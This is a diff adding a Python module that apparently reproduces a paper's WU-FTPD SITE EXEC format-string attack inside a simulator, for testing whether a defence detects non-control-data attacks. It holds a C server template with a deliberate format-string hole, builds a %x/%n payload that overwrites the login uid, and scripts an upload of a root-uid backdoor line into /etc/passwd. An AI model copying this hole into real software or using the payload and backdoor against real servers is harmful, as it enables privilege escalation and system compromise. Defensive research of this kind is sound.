@@ -1,0 +1,240 @@
+"""Mini WU-FTPD: the SITE EXEC format-string attack of section 5.1.2.
+
+The analogue keeps exactly what the published exploit (BID-1387) needed:
+
+* an FTP command loop with USER/PASS authentication state;
+* a ``SITE EXEC`` handler that passes the user-supplied command text as the
+  *format* argument of a printf-family function (``reply``);
+* a login-uid word in the static data segment -- the **non-control** target
+  the paper overwrites instead of a return address;
+* a uid-gated privileged operation (``STOR /etc/passwd``) so an undetected
+  attack produces the paper's backdoor: uploading a passwd file with a
+  root-uid entry for the attacker.
+
+The attack payload plants the uid word's address at the start of the SITE
+EXEC argument and uses ``%x`` skid directives to walk vfprintf's argument
+pointer ``ap`` up the stack into the planted address -- the same
+``site exec \\x..\\x..\\x..\\x..%x%x%x%x%x%x%n`` shape as the paper's
+Table 2 (the number of skid words is a frame-layout constant, exposed here
+as :data:`WUFTPD_SKID_WORDS`).
+"""
+
+from __future__ import annotations
+
+from functools import lru_cache
+from typing import List
+
+from ..attacks.payloads import format_write_payload
+from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
+from ..isa.program import Executable
+from ..kernel.filesystem import SimFileSystem
+from ..kernel.network import ScriptedClient
+from ..libc.build import build_program
+
+#: The uid word's static-data address in the paper's Table 2.
+PAPER_UID_ADDRESS = 0x1002BC20
+
+WUFTPD_TEMPLATE = r"""
+int uid_pad[__PAD_WORDS__];  /* pins user_uid at the Table 2 address */
+int user_uid = 1000;        /* identity of the logged-in user (the target) */
+int logged_in = 0;
+
+char banner[80] = "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.\r\n";
+
+/* printf-family reply: the format-string sink (lreply in real WU-FTPD). */
+void reply(int fd, char *fmt, ...) {
+    char out[512];
+    int n;
+    int *ap;
+    ap = &fmt;
+    n = vformat(out, fmt, ap + 1);
+    send(fd, out, n);
+}
+
+/*
+ * SITE EXEC handler.  Copies the argument into a local line buffer and
+ * echoes it through reply() as the format string -- the CVE-2000-0573
+ * vulnerability.  The scratch array below the line buffer is the frame
+ * region vfprintf's ap walks across (the %x skid of the exploit).
+ */
+void do_site_exec(int fd, char *args) {
+    char line[128];
+    char scratch[16];
+    strcpy(line, args);
+    memset(scratch, 0, 16);
+    reply(fd, line);
+}
+
+/* Store an uploaded file; only privileged (system) uids may write. */
+void do_stor(int fd, int client, char *path, char *content) {
+    int out;
+    if (user_uid >= 1000) {
+        send_str(client, "550 Permission denied.\r\n");
+        return;
+    }
+    out = open(path, 577);      /* O_WRONLY|O_CREAT|O_TRUNC */
+    if (out < 0) {
+        send_str(client, "553 Could not create file.\r\n");
+        return;
+    }
+    write(out, content, strlen(content));
+    close(out);
+    send_str(client, "226 Transfer complete.\r\n");
+}
+
+int main(void) {
+    int s;
+    int c;
+    int n;
+    char cmd[512];
+    char upload[256];
+    s = server_listen(21);
+    if (s < 0) {
+        return 1;
+    }
+    c = accept(s);
+    if (c < 0) {
+        return 1;
+    }
+    send_str(c, banner);
+    while (1) {
+        n = recv_line(c, cmd, 512);
+        if (n < 1) {
+            break;
+        }
+        if (strncmp(cmd, "USER ", 5) == 0) {
+            reply(c, "331 Password required for %s.\r\n", cmd + 5);
+        } else if (strncmp(cmd, "PASS ", 5) == 0) {
+            logged_in = 1;
+            user_uid = 1000;
+            send_str(c, "230 User logged in.\r\n");
+        } else if (strncmp(cmd, "SITE EXEC ", 10) == 0) {
+            if (logged_in) {
+                do_site_exec(c, cmd + 10);
+                if (user_uid != 1000) {
+                    /* Identity word no longer matches the login: the
+                       kernel-visible privilege now follows the corrupted
+                       value (the paper's escalation step). */
+                    setuid(user_uid);
+                }
+            } else {
+                send_str(c, "530 Please login with USER and PASS.\r\n");
+            }
+        } else if (strncmp(cmd, "STOR ", 5) == 0) {
+            n = recv_line(c, upload, 256);
+            do_stor(0, c, cmd + 5, upload);
+        } else if (strncmp(cmd, "QUIT", 4) == 0) {
+            send_str(c, "221 Goodbye.\r\n");
+            break;
+        } else {
+            send_str(c, "500 Unknown command.\r\n");
+        }
+    }
+    close(c);
+    return 0;
+}
+"""
+
+#: %x directives needed for ap to walk from reply()'s first vararg slot
+#: across do_site_exec's scratch area to the start of its line buffer.
+#: Calibrated against the frame layout; asserted by the test suite.
+WUFTPD_SKID_WORDS = 6
+
+#: The backdoor line the paper's attacker uploads into /etc/passwd.
+BACKDOOR_PASSWD_ENTRY = "alice:x:0:0::/home/root:/bin/bash"
+
+
+def _source_with_pad(pad_words: int) -> str:
+    return WUFTPD_TEMPLATE.replace("__PAD_WORDS__", str(pad_words))
+
+
+@lru_cache(maxsize=1)
+def wuftpd_source() -> str:
+    """Server source with the pad sized so ``user_uid`` sits at the paper's
+    Table 2 address 0x1002bc20 (whose bytes are NUL-free, as the exploit
+    requires -- it travels through ``strcpy``)."""
+    probe = build_program(_source_with_pad(1))
+    probe_address = probe.address_of("_g_user_uid")
+    pad_words = 1 + (PAPER_UID_ADDRESS - probe_address) // 4
+    if pad_words < 1:
+        raise RuntimeError("data segment already beyond the target address")
+    return _source_with_pad(pad_words)
+
+
+def build_wuftpd() -> Executable:
+    """Compile the server (cached)."""
+    return build_program(wuftpd_source())
+
+
+def uid_address() -> int:
+    """Static-data address of the login-uid word (the attack target)."""
+    return build_wuftpd().address_of("_g_user_uid")
+
+
+def site_exec_payload() -> bytes:
+    """The Table 2 command: planted uid address + %x skid + %n."""
+    return (
+        b"SITE EXEC "
+        + format_write_payload(
+            uid_address(),
+            skid_words=WUFTPD_SKID_WORDS,
+            gap_words=WUFTPD_SKID_WORDS,
+        )
+        + b"\n"
+    )
+
+
+def attack_session() -> List[bytes]:
+    """The full FTP session of Table 2: USER, PASS, SITE EXEC, then the
+    backdoor upload attempt (only reached when undetected)."""
+    return [
+        b"USER user1\n",
+        b"PASS xxxxxxx\n",
+        site_exec_payload(),
+        b"STOR /etc/passwd\n" + BACKDOOR_PASSWD_ENTRY.encode() + b"\n",
+        b"QUIT\n",
+    ]
+
+
+def benign_session() -> List[bytes]:
+    return [
+        b"USER user1\n",
+        b"PASS xxxxxxx\n",
+        b"SITE EXEC ls -l\n",
+        b"STOR /etc/passwd\nintruder:x:0:0::/:/bin/sh\n",
+        b"QUIT\n",
+    ]
+
+
+def make_filesystem() -> SimFileSystem:
+    """A filesystem holding the original /etc/passwd."""
+    fs = SimFileSystem()
+    fs.add_file("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
+    return fs
+
+
+def wuftpd_scenario() -> AttackScenario:
+    """Table 2: format string overwrites the uid word (non-control data)."""
+    return AttackScenario(
+        name="wuftpd-site-exec",
+        category=NON_CONTROL_DATA,
+        description="WU-FTPD SITE EXEC format string -> uid overwrite",
+        source=wuftpd_source(),
+        attack_input={
+            "clients": lambda: [ScriptedClient(attack_session())],
+            "filesystem": make_filesystem,
+        },
+        benign_input={
+            "clients": lambda: [ScriptedClient(benign_session())],
+            "filesystem": make_filesystem,
+        },
+        expected_alert_kind="store",
+        detected_by_control_data=False,
+        paper_ref="Table 2 / section 5.1.2",
+        compromise_check=lambda result: (
+            result.kernel is not None
+            and result.kernel.fs.exists("/etc/passwd")
+            and BACKDOOR_PASSWD_ENTRY.encode()
+            in result.kernel.fs.read_file("/etc/passwd")
+        ),
+    )
